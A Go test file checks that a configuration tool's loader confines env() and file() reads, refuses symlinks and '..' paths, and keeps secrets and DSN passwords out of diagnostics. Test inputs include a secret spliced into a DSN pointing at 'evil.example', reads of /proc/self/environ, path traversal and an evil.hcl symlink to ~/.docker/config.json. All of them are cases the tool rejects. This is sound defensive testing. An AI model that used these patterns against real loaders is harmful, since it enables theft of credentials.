package schema

import (
	"os"
	"path/filepath"
	"strings"
	"syscall"
	"testing"

	"github.com/tiform/tiform/diag"
)

// loadText loads one main.hcl (plus extra files) and returns the diagnostics
// as text.
func loadText(t *testing.T, src string, extra map[string]string, opts Options) (string, bool) {
	t.Helper()
	dir := t.TempDir()
	writeFile(t, dir, "main.hcl", src)
	for name, content := range extra {
		writeFile(t, dir, name, content)
	}
	_, diags := Load(dir, opts)
	var sb strings.Builder
	_ = diag.Write(&sb, diags, false)
	return sb.String(), diags.HasErrors()
}

const ciSecret = "ci-s3cr3t-value-Q7"

// env() reads only what the configuration is allowed to read: names given
// with AllowEnv anywhere, and a variable that is a cluster's whole DSN, for
// that DSN only.
func TestEnvAllowList(t *testing.T) {
	environ := env(map[string]string{
		"PROD_DSN": "app:" + ciSecret + "@tcp(10.0.0.1:4000)/", "CI_TOKEN": ciSecret, "REGION": "tokyo",
	})
	for _, tc := range []struct {
		name, src string
		allow     []string
		wantErr   string // "" = loads
	}{
		{"whole dsn", `cluster "a" { dsn = env("PROD_DSN") }`, nil, ""},
		{"whole dsn with a default", `cluster "a" { dsn = env("PROD_DSN", "") }`, nil, ""},
		{"dsn in a conditional branch", "variable \"dev\" { default = false }\ncluster \"a\" { dsn = var.dev ? env(\"DEV_DSN\", \"\") : env(\"PROD_DSN\") }", nil, ""},
		{"a secret in a setting", `variables { tidb_opt_fix_control = env("CI_TOKEN") }`, nil, `may not read environment variable CI_TOKEN`},
		{"the dsn variable in a setting", "cluster \"a\" {\n  dsn = env(\"PROD_DSN\")\n  variables { tidb_opt_fix_control = env(\"PROD_DSN\") }\n}", nil, `may not read environment variable PROD_DSN`},
		{"a secret spliced into a dsn", `cluster "a" { dsn = "app:${env("CI_TOKEN")}@tcp(evil.example:4000)/" }`, nil, `may not read environment variable CI_TOKEN`},
		{"the dsn variable read twice", `cluster "a" { dsn = env("PROD_DSN") == "" ? "" : env("PROD_DSN") }`, nil, `may not read environment variable PROD_DSN`},
		{"through a local", "locals { d = env(\"PROD_DSN\") }\ncluster \"a\" { dsn = local.d }", nil, `may not read environment variable PROD_DSN`},
		{"a default does not help", `variables { x_region = env("REGION", "osaka") }`, nil, `may not read environment variable REGION`},
		{"a computed name", `variables { x_region = env(upper("region")) }`, nil, `may not read environment variable REGION`},
		{"allowed with --allow-env", `variables { x_region = env("REGION") }`, []string{"REGION"}, ""},
	} {
		t.Run(tc.name, func(t *testing.T) {
			out, failed := loadText(t, tc.src, nil, Options{Env: environ, AllowEnv: tc.allow})
			if tc.wantErr == "" {
				if failed {
					t.Fatalf("want success, got:\n%s", out)
				}
				return
			}
			if !failed || !strings.Contains(out, tc.wantErr) || !strings.Contains(out, "--allow-env") {
				t.Fatalf("want an error %q with the --allow-env hint, got:\n%s", tc.wantErr, out)
			}
			if strings.Contains(out, ciSecret) {
				t.Errorf("the diagnostic shows the secret:\n%s", out)
			}
		})
	}
}

// file() reads only regular files inside the configuration directory.
func TestFileConfinedToTheDirectory(t *testing.T) {
	outside := t.TempDir()
	secretFile := filepath.Join(outside, "secret.txt")
	if err := os.WriteFile(secretFile, []byte(ciSecret), 0o600); err != nil {
		t.Fatal(err)
	}
	for _, tc := range []struct {
		name, path string
		setup      func(t *testing.T, dir string)
		wantErr    string
	}{
		{"inside", "rules.txt", nil, ""},
		{"a subdirectory", "sub/rules.txt", func(t *testing.T, dir string) {
			os.Mkdir(filepath.Join(dir, "sub"), 0o700)
			writeFile(t, dir, "sub/rules.txt", "x")
		}, ""},
		{"a symlink inside", "link.txt", func(t *testing.T, dir string) {
			os.Symlink("rules.txt", filepath.Join(dir, "link.txt"))
		}, ""},
		{"absolute", secretFile, nil, "an absolute path"},
		{"/proc/self/environ", "/proc/self/environ", nil, "an absolute path"},
		{"dot-dot", "../" + filepath.Base(outside) + "/secret.txt", nil, `a path with ".."`},
		{"dot-dot inside", "sub/../rules.txt", nil, `a path with ".."`},
		{"a symlink out", "out.txt", func(t *testing.T, dir string) {
			os.Symlink(secretFile, filepath.Join(dir, "out.txt"))
		}, "leads out of the configuration directory"},
		{"a symlinked directory out", "d/secret.txt", func(t *testing.T, dir string) {
			os.Symlink(outside, filepath.Join(dir, "d"))
		}, "leads out of the configuration directory"},
		{"a directory", "sub", func(t *testing.T, dir string) { os.Mkdir(filepath.Join(dir, "sub"), 0o700) }, "not a regular file (a directory)"},
		{"a FIFO", "fifo", func(t *testing.T, dir string) {
			if err := syscall.Mkfifo(filepath.Join(dir, "fifo"), 0o600); err != nil {
				t.Skip("mkfifo:", err)
			}
		}, "not a regular file (a named pipe)"},
		{"too large", "big.txt", func(t *testing.T, dir string) {
			writeFile(t, dir, "big.txt", strings.Repeat("x", 1<<20+1))
		}, "more than the limit of 1 MiB"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			dir := t.TempDir()
			writeFile(t, dir, "rules.txt", "Query_time > 1")
			if tc.setup != nil {
				tc.setup(t, dir)
			}
			writeFile(t, dir, "main.hcl", "variables {\n  tidb_slow_log_rules = file(\""+tc.path+"\")\n}\n")
			_, diags := Load(dir, Options{})
			var sb strings.Builder
			_ = diag.Write(&sb, diags, false)
			out := sb.String()
			if tc.wantErr == "" {
				if diags.HasErrors() {
					t.Fatalf("want success, got:\n%s", out)
				}
				return
			}
			if !diags.HasErrors() || !strings.Contains(out, tc.wantErr) {
				t.Fatalf("want %q, got:\n%s", tc.wantErr, out)
			}
			if strings.Contains(out, ciSecret) {
				t.Errorf("the diagnostic shows the file's content:\n%s", out)
			}
		})
	}
}

// A value that comes from a variable marked sensitive, directly or through
// locals and functions, is marked on the setting; anywhere tiform cannot hide
// it is an error; a diagnostic about it never shows it.
func TestSensitiveValues(t *testing.T) {
	const decl = "variable \"uri\" {\n  sensitive = true\n}\nvariable \"plain\" {\n  default = \"x\"\n}\nlocals {\n  shouted = upper(var.uri)\n}\n"
	opts := Options{Vars: map[string]string{"uri": "s3://bucket?secret-access-key=" + ciSecret}}
	t.Run("settings are marked", func(t *testing.T) {
		dir := t.TempDir()
		writeFile(t, dir, "main.hcl", decl+`
variables {
  tidb_cloud_storage_uri = var.uri
  x_derived              = local.shouted
  x_plain                = var.plain
}
tikv {
  x { y = "${var.uri}/suffix" }
}`)
		d, diags := Load(dir, opts)
		if diags.HasErrors() {
			t.Fatalf("%v", diags)
		}
		got := map[string]bool{}
		for _, v := range d.Clusters[0].Variables {
			got[v.Name] = v.Value.Sensitive
		}
		for _, c := range d.Clusters[0].Config {
			got[c.Key] = c.Value.Sensitive
		}
		want := map[string]bool{"tidb_cloud_storage_uri": true, "x_derived": true, "x_plain": false, "x.y": true}
		for k, w := range want {
			if got[k] != w {
				t.Errorf("%s: Sensitive = %v, want %v", k, got[k], w)
			}
		}
	})
	for _, tc := range []struct{ name, src string }{
		{"a resource group's users", "resource_group \"g\" {\n  ru_per_sec = 100\n  users = [var.uri]\n}"},
		{"a label", "cluster \"a\" {\n  labels = { owner = local.shouted }\n}"},
		{"an acknowledgement", `acknowledge "TF101" { reason = var.uri }`},
	} {
		t.Run(tc.name, func(t *testing.T) {
			out, failed := loadText(t, decl+tc.src, nil, opts)
			if !failed || !strings.Contains(out, "a sensitive value is used where tiform cannot hide it") {
				t.Fatalf("want the sensitive-use error, got:\n%s", out)
			}
			if strings.Contains(out, ciSecret) {
				t.Errorf("shows the value:\n%s", out)
			}
		})
	}
	t.Run("an invalid sensitive value is not quoted", func(t *testing.T) {
		out, failed := loadText(t, decl+"variables {\n  tidb_enable_prepared_plan_cache = local.shouted\n}", nil, opts)
		if !failed || !strings.Contains(out, "a sensitive value, not shown") || strings.Contains(out, strings.ToUpper(ciSecret)) {
			t.Fatalf("got:\n%s", out)
		}
	})
}

// A value that contains the password of a DSN in use is refused, however it
// was obtained (an allowed env(), file(), a variable, the default DSN).
func TestValueWithDSNPasswordRefused(t *testing.T) {
	dsn := "app:" + ciSecret + "@tcp(10.0.0.1:4000)/"
	environ := env(map[string]string{"PROD_DSN": dsn})
	for _, tc := range []struct {
		name, src string
		extra     map[string]string
		opts      Options
	}{
		{"through an allowed env()", "cluster \"a\" {\n  dsn = env(\"PROD_DSN\")\n  variables {\n    tidb_opt_fix_control = env(\"PROD_DSN\")\n  }\n}",
			nil, Options{Env: environ, AllowEnv: []string{"PROD_DSN"}}},
		{"through file()", "cluster \"a\" {\n  dsn = trimspace(file(\"dsn.txt\"))\n  variables {\n    tidb_opt_fix_control = file(\"dsn.txt\")\n  }\n}",
			map[string]string{"dsn.txt": dsn + "\n"}, Options{}},
		{"the default DSN's password in a label", "variable \"x\" {}\ncluster \"a\" {\n  labels = { owner = var.x }\n}",
			nil, Options{DefaultDSN: dsn, Vars: map[string]string{"x": "pw=" + ciSecret}}},
		{"in a resource group user", "variable \"x\" {}\nresource_group \"g\" {\n  ru_per_sec = 10\n  users = [\"${var.x}@%\"]\n}",
			nil, Options{DefaultDSN: dsn, Vars: map[string]string{"x": ciSecret}}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			out, failed := loadText(t, tc.src, tc.extra, tc.opts)
			if !failed || !strings.Contains(out, "this value contains the password of a DSN in use") {
				t.Fatalf("want the refusal, got:\n%s", out)
			}
			if strings.Contains(out, ciSecret) {
				t.Errorf("shows the password:\n%s", out)
			}
		})
	}
}

// A *.hcl file is read through the configuration directory's root, like
// file(): a link to a file outside (a pull request's evil.hcl ->
// ~/.docker/config.json) is refused, and no byte of the target reaches any
// diagnostic; a link to a file inside is read.
func TestConfigFilesConfinedToTheDirectory(t *testing.T) {
	outside := t.TempDir()
	target := filepath.Join(outside, "config.json")
	// HCL-looking, so that a loader that read it would quote it in a
	// diagnostic (an unknown block, a syntax error on the next line).
	secretText := "auth = \"" + ciSecret + "\"\n{\"auths\": \"" + ciSecret + "\"}\n"
	if err := os.WriteFile(target, []byte(secretText), 0o600); err != nil {
		t.Fatal(err)
	}
	for _, tc := range []struct {
		name, link, to string
		wantErr        string
	}{
		{"a link out", "evil.hcl", target, "evil.hcl\n  a symbolic link that leads out of the configuration directory"},
		{"a relative link out", "evil.hcl", "../" + filepath.Base(outside) + "/config.json", "a symbolic link that leads out of the configuration directory"},
		{"a link inside", "linked.hcl", "sub/real.hcl", ""},
	} {
		t.Run(tc.name, func(t *testing.T) {
			parent := t.TempDir()
			dir := filepath.Join(parent, "cfg")
			os.MkdirAll(filepath.Join(dir, "sub"), 0o755)
			// The relative link resolves from parent/cfg to outside only
			// when outside is parent's sibling: put a copy there.
			os.Mkdir(filepath.Join(parent, filepath.Base(outside)), 0o700)
			os.WriteFile(filepath.Join(parent, filepath.Base(outside), "config.json"), []byte(secretText), 0o600)
			writeFile(t, dir, "main.hcl", "variables {\n  tidb_gc_life_time = \"10m\"\n}\n")
			writeFile(t, dir, "sub/real.hcl", "tikv {\n  gc {\n    ratio-threshold = 1.3\n  }\n}\n")
			if err := os.Symlink(tc.to, filepath.Join(dir, tc.link)); err != nil {
				t.Skip(err)
			}
			d, diags := Load(dir, Options{})
			var sb strings.Builder
			_ = diag.Write(&sb, diags, false)
			out := sb.String()
			if strings.Contains(out, ciSecret) || strings.Contains(out, "auths") {
				t.Fatalf("a byte of the file outside was printed:\n%s", out)
			}
			if tc.wantErr == "" {
				if diags.HasErrors() || len(d.Clusters[0].Config) != 1 {
					t.Fatalf("want the linked file read, got:\n%s", out)
				}
				return
			}
			if !diags.HasErrors() || !strings.Contains(out, tc.wantErr) {
				t.Fatalf("want %q, got:\n%s", tc.wantErr, out)
			}
		})
	}
}

// A variable file's lines may hold passwords: its snippets show names only,
// also for a syntax error (before anything says which variables are
// sensitive).
func TestVarFileErrorsShowNoValue(t *testing.T) {
	const pw = "Sup3r-S3cret-in-a-var-file"
	for name, src := range map[string]string{
		"unterminated string": "region = \"tokyo\"\ndb_password = \"" + pw + "\n",
		"stray text":          "db_password = \"x\"\n" + pw + "\n",
		"two values":          "db_password = \"" + pw + "\" \"" + pw + "\"\n",
		"not a constant":      "db_password = " + pw + "\n",
	} {
		t.Run(name, func(t *testing.T) {
			dir := t.TempDir()
			writeFile(t, dir, "main.hcl", "variable \"db_password\" {\n  sensitive = true\n  default = \"\"\n}\nvariable \"region\" {\n  default = \"\"\n}\n")
			vars := filepath.Join(t.TempDir(), "prod.tfvars")
			if err := os.WriteFile(vars, []byte(src), 0o600); err != nil {
				t.Fatal(err)
			}
			out := loadWithin(t, dir, Options{VarFiles: []string{vars}})
			if strings.Contains(out, pw) || strings.Contains(out, "Sup3r") {
				t.Fatalf("the variable file's value was printed:\n%s", out)
			}
			if !strings.Contains(out, vars+":") {
				t.Fatalf("the error does not name the file and line:\n%s", out)
			}
		})
	}
}
